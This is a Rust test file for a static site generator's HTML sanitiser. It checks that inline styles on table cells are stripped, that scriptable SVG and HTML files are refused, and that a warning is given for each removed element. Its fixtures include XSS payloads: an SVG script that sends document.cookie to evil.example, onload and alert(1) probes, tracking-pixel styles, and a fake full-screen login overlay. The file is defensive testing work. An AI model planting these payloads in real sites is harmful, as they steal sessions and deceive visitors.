//! The sanitiser covers every way in: raw HTML in pages (with warnings
//! saying what went and why), inline styles, and files beside the pages
//! that browsers would run.

mod common;

use common::{Fixture, sel, snapshot};
use std::path::Path;
use tolk::error::Diagnostic;

fn set_html_mode(f: &Fixture, mode: &str) {
    let yaml = std::fs::read_to_string(f.root().join("site.yaml")).unwrap();
    let yaml = yaml.split("markdown:").next().unwrap().to_string();
    f.write("site.yaml", &format!("{yaml}markdown:\n  html: {mode}\n"));
}

/// Failure 3: `style` on table cells passed the sanitiser.
#[test]
fn regression_style_on_table_cells_is_removed_but_alignment_stays() {
    let f = Fixture::new("basic");
    let table = "| Vänster | Mitten | Höger |\n|:--|:-:|--:|\n| a | b | c |\n";
    f.write(
        "content/sv/tabell.md",
        &format!(
            "---\ntitle: Tabell\n---\n{table}\n<table><tr><td style=\"position:fixed;inset:0;z-index:99\">Logga in igen</td><th style=\"background:url(https://tracker.example/p.gif)\">x</th><td style=\"text-align: center; background:url(https://tracker.example/q.gif)\">y</td><td style=\"TEXT-ALIGN: CENTER\">z</td></tr></table>\n"
        ),
    );
    f.write(
        "content/sv/bara-tabell.md",
        &format!("---\ntitle: Bara tabell\n---\n{table}"),
    );
    f.build();
    for page in ["sv/tabell/index.html", "sv/bara-tabell/index.html"] {
        let doc = f.html(page);
        let styles: Vec<(String, String)> = doc
            .select(&sel("#main [style]"))
            .map(|e| {
                (
                    e.value().name().to_string(),
                    e.value().attr("style").unwrap().to_string(),
                )
            })
            .collect();
        let want: Vec<(String, String)> = [
            ("th", "left"),
            ("th", "center"),
            ("th", "right"),
            ("td", "left"),
            ("td", "center"),
            ("td", "right"),
        ]
        .iter()
        .map(|(e, a)| (e.to_string(), format!("text-align: {a}")))
        .collect();
        assert_eq!(styles, want, "{page}: only Markdown's alignment keeps a style");
    }
    let doc = f.html("sv/tabell/index.html");
    let raw_cells: Vec<String> = doc
        .select(&sel("#main table:nth-of-type(2) td, #main table:nth-of-type(2) th"))
        .map(|e| e.text().collect())
        .collect();
    assert_eq!(
        raw_cells,
        ["Logga in igen", "x", "y", "z"],
        "the cells stay, their styles go"
    );
}

fn at<'a>(d: &'a [Diagnostic], file: &str) -> Vec<&'a Diagnostic> {
    d.iter()
        .filter(|d| d.file.as_deref() == Some(Path::new(file)))
        .collect()
}

const SVG_WITH_SCRIPT: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\n  <rect width=\"10\" height=\"10\"/>\n  <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n</svg>\n";

const INKSCAPE_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg1"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="karta.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="0.7"/>
  <defs id="defs1"><linearGradient id="g"><stop style="stop-color:#0057b7;stop-opacity:1" offset="0"/></linearGradient></defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:title>Karta</dc:title></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Lager 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:url(#g);stroke:#000000;stroke-width:0.26" width="100" height="50" x="10" y="10"/>
    <use xlink:href="#layer1" x="5"/>
    <text x="20" y="40" style="font-family:sans-serif"><tspan>Kyiv &amp; Riga</tspan></text>
  </g>
</svg>
"##;

/// Failure 4: `.svg` and `.html` files beside pages were published as they
/// are, scripts included.
#[test]
fn regression_svg_and_html_beside_pages_are_refused_in_sanitize_mode() {
    let f = Fixture::new("basic");
    f.build();
    let before = snapshot(&f.out());
    let cases = [
        ("content/sv/bild.svg", SVG_WITH_SCRIPT, Some((4, 3))),
        (
            "content/sv/news/IKON.SVG",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            Some((1, 41)),
        ),
        ("content/sv/sida.html", "<!DOCTYPE html><script>alert(1)</script>", None),
        ("content/en/gammal.HTM", "<script>alert(1)</script>", None),
        (
            "content/sv/data.xml",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>",
            None,
        ),
        (
            "content/sv/sida.xhtml",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>",
            None,
        ),
    ];
    for mode in ["sanitize", "escape"] {
        set_html_mode(&f, mode);
        for (path, text, _) in &cases {
            f.write(path, text);
        }
        let d = f.build_err();
        for (path, _, pos) in &cases {
            let found = at(&d, path);
            assert_eq!(found.len(), 1, "{mode}: {path}: {d:#?}");
            let d = found[0];
            assert!(d.is_error() && d.kind == Some(tolk::error::Kind::Content), "{d}");
            assert_eq!(d.line.zip(d.column), *pos, "{d}");
            let hint = d.hint.as_deref().unwrap();
            assert!(hint.contains("static/"), "{hint}");
            if path.to_lowercase().ends_with(".svg") {
                assert!(hint.contains("PNG"), "{hint}");
            }
        }
        assert_eq!(before, snapshot(&f.out()), "{mode}: nothing was published");
    }

    // Trusted authors may publish them.
    set_html_mode(&f, "allow");
    f.build();
    let published = snapshot(&f.out());
    for (path, text, _) in &cases {
        let name = Path::new(path).file_name().unwrap();
        let copies: Vec<&Vec<u8>> = published
            .iter()
            .filter(|(p, _)| p.file_name() == Some(name))
            .map(|(_, bytes)| bytes)
            .collect();
        assert!(!copies.is_empty(), "{path} is published with html: allow");
        assert!(copies.iter().all(|b| b.as_slice() == text.as_bytes()), "{path}");
    }

    // A drawing (from an editor, with its metadata) is published unchanged.
    set_html_mode(&f, "sanitize");
    for (path, _, _) in &cases {
        f.remove(path);
    }
    f.write("content/sv/karta.svg", INKSCAPE_SVG);
    f.write(
        "content/sv/about.md",
        "---\ntitle: Om oss\nslug: om-oss\n---\n![Karta](karta.svg)\n",
    );
    f.build();
    assert_eq!(
        std::fs::read_to_string(f.out().join("sv/karta.svg")).unwrap(),
        INKSCAPE_SVG
    );
    let doc = f.html("sv/om-oss/index.html");
    assert_eq!(common::attr(&doc, "#main img", "src"), "../karta.svg");
}

/// Failure 5: elements the sanitiser removed vanished without a word.
#[test]
fn regression_removed_elements_are_warned_about_with_their_line() {
    let f = Fixture::new("basic");
    let body = "Inledning.\n\n<iframe src=\"https://evil.example/\" width=\"600\"></iframe>\n\nText med <script>alert(1)</script> mitt i.\n\n<div class=\"karta\">\n  <object data=\"karta.swf\"></object>\n  <embed src=\"karta.swf\">\n</div>\n\n<details><summary>Mer</summary>Detta är kvar.</details>\n";
    f.write("content/sv/inbaddat.md", &format!("---\ntitle: Inbäddat\n---\n{body}"));
    let report = f.build();
    let mut found: Vec<(usize, String)> = at(&report.warnings, "content/sv/inbaddat.md")
        .into_iter()
        .map(|d| {
            assert!(!d.is_error() && d.hint.is_some(), "{d}");
            (d.line.unwrap(), d.message.clone())
        })
        .collect();
    found.sort();
    let lines: Vec<(usize, &str)> = found.iter().map(|(l, m)| (*l, m.split(':').next().unwrap())).collect();
    assert_eq!(
        lines,
        [
            (6, "the sanitiser removed <iframe>"),
            (8, "the sanitiser removed <script>"),
            (10, "the sanitiser removed <embed>"),
            (10, "the sanitiser removed <object>"),
        ],
        "{found:#?}"
    );
    assert!(
        found[0].1.contains("another site"),
        "the reason is given: {}",
        found[0].1
    );
    assert!(found[1].1.contains("script"), "{}", found[1].1);
    let doc = f.html("sv/inbaddat/index.html");
    assert_eq!(
        doc.select(&sel("#main iframe, #main script, #main object, #main embed"))
            .count(),
        0
    );
    assert_eq!(common::text(&doc, "#main details"), "MerDetta är kvar.");

    // Escaped HTML is shown, not removed; allowed HTML is kept: no warnings.
    for mode in ["escape", "allow"] {
        set_html_mode(&f, mode);
        let report = f.build();
        assert!(
            at(&report.warnings, "content/sv/inbaddat.md").is_empty(),
            "{mode}: {:#?}",
            report.warnings
        );
    }
    let doc = f.html("sv/inbaddat/index.html");
    assert_eq!(doc.select(&sel("#main iframe")).count(), 1, "allow keeps trusted HTML");
}
